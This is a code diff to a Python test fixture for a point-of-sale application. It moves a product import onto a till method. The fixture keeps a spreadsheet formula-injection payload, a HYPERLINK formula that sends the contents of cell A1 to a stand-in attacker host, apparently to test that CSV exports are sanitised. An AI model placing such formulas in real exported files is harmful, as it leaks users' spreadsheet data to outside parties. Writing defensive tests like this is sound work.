@@ -28,7 +28,6 @@ from tui_pos.domain.customer import CustomerDetails
 from tui_pos.domain.segments import SegmentRule
 from tui_pos.domain.staff import Role
 from tui_pos.services.customer_export import export_segment_file, rows_csv
-from tui_pos.services.product_import import import_products
 from tui_pos.services.staff_reports import audit_report, hours_report
 
 PRODUCT = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -64,16 +63,11 @@ def shop(demo_till: Till) -> Till:
     till = demo_till
     tax = till.config.taxes[0].code
     code = _code("200000000001")
-    import_products(
+    till.import_products(
         [
             "barcode,name,price,tax,category,stock,reorder_level\n",
             f'{code},"{PRODUCT.replace(chr(34), chr(34) * 2)}",2.00,{tax},"{CATEGORY}",1,5\n',
-        ],
-        till.catalog_writer,
-        [t.code for t in till.config.taxes],
-        till.parser,
-        till=till.config.store.till,
-        now=till.register.clock(),
+        ]
     )
     till.staff.add_employee("9", EMPLOYEE, Role.MANAGER, "1357")
     employee = till.staff.log_in("9", "1357")
